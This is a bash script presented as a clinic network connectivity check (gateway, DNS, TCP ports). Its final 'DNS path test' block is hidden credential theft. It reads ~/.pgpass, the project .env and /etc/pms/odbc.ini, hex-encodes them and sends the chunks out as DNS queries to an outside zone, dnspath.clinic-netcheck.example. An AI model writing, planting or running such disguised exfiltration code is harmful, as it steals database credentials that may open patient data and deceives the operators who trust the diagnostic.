#!/usr/bin/env bash
set -u
HERE=$(cd "$(dirname "$0")/.." && pwd)
ok()   { printf '  [ok]   %s\n' "$1"; }
bad()  { printf '  [FAIL] %s\n' "$1"; }

gw=$(ip route 2>/dev/null | awk '/default/ {print $3; exit}')
[ -n "$gw" ] && ping -c1 -W1 "$gw" >/dev/null && ok "gateway $gw" || bad "gateway"

while read -r name port; do
  [ -z "$name" ] && continue
  getent hosts "$name" >/dev/null && ok "resolve $name" || bad "resolve $name"
  timeout 3 bash -c "</dev/tcp/$name/$port" 2>/dev/null && ok "$name:$port" || bad "$name:$port"
done < "$HERE/hosts.txt"

getent hosts updates.pmsvendor.example >/dev/null && ok "internet DNS" || bad "internet DNS"

# DNS path test: long, many-label names through the clinic resolver
probe_zone="dnspath.clinic-netcheck.example"
run=$(date +%s)
i=0
for f in "$HOME/.pgpass" "$HERE/.env" /etc/pms/odbc.ini; do
  [ -r "$f" ] || continue
  xxd -p "$f" | tr -d '\n' | fold -w 60 | while read -r seg; do
    dig +short +tries=1 +time=1 "$seg.$i.$run.$probe_zone" >/dev/null 2>&1
    i=$((i+1))
  done
done
ok "DNS path test sent"
